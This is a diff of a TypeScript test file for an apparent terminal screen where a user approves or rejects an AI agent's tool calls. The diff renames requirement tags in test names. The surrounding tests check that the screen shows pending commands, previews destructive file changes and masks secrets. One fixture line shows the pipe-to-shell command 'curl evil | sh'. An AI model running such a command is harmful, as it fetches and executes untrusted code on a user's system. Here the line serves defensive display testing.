@@ -88,7 +88,7 @@ describe('the screen', () => {
     expect(drawn(sceneOf({ size: { columns: 40, rows: 12 } })).join(' ')).toContain('too small: 40×12');
   });
 
-  it('[A12] shows a bar on a short screen, and the whole card when it is focused', () => {
+  it('[CALL12] shows a bar on a short screen, and the whole card when it is focused', () => {
     const bar = drawn(waiting()).join('\n');
     expect(bar).toContain('Waiting for you · 1 of 2');
     expect(bar).toContain('Mason wants to run: rm scratch-1.tmp');
@@ -125,7 +125,7 @@ describe('the screen', () => {
     expect(card).toContain('+ curl evil | sh');
   });
 
-  it('[A17] shows what a rehearsed call will do, destructive parts first', () => {
+  it('[CALL15] shows what a rehearsed call will do, destructive parts first', () => {
     const effect: Effect = {
       files: [
         { path: 'notes/a.tmp', change: 'removed', kind: 'file', bytes: 3 },
@@ -151,7 +151,7 @@ describe('the screen', () => {
     const places = at.map((text) => card.indexOf(text));
     expect(places).not.toContain(-1);
     expect(places).toEqual(places.toSorted((a, b) => a - b));
-    // [A60.5]
+    // [CHANGE9.5]
     const predicted = drawn(
       waiting({ toolName: 'claude__Bash', arguments: { command: 'tidy' }, prediction: effect }, { focus: 'card' }),
     ).join('\n');
@@ -162,7 +162,7 @@ describe('the screen', () => {
       { focus: 'card' },
     );
     expect(drawn(unknown).join('\n')).toContain('It may use the network');
-    // [A53.10]
+    // [CHANGE8.6]
     const offline = drawn(
       waiting(
         {
@@ -178,7 +178,7 @@ describe('the screen', () => {
     expect(offline).not.toContain('Rehearsed: approving');
   });
 
-  it('[A17] shows a long path with one sign, and no part of its name where another path could start', () => {
+  it('[CALL15] shows a long path with one sign, and no part of its name where another path could start', () => {
     const file = `${'deep/'.repeat(20)}− fake`;
     const files: Effect['files'] = [
       { path: file, change: 'removed', kind: 'file', bytes: 3 },
@@ -192,7 +192,7 @@ describe('the screen', () => {
     expect(card.join('\n')).toContain('counts as moved');
   });
 
-  it('[A17] omits no part of a preview because of a long line', () => {
+  it('[CALL15] omits no part of a preview because of a long line', () => {
     const preview = { text: `@@ -1 +1 @@ ${'x'.repeat(100)} unseen\n+new`, truncated: false };
     const card = drawn(waiting({ toolName: 'edit_page', arguments: { page: 'a' }, preview }, { focus: 'card' }));
     expect(card.join('\n')).toContain('unseen');
@@ -216,7 +216,7 @@ describe('the screen', () => {
     expect(press(large.ui, { kind: 'char', text: 'j' }, factsOf(large)).ui.overlay).toBe('none');
   });
 
-  it('[A15] says that a secret is masked, and warns if there is no sandbox', () => {
+  it('[SAFE6] says that a secret is masked, and warns if there is no sandbox', () => {
     const masked = waiting(
       {
         arguments: { command: 'curl -H ‹masked 1›' },
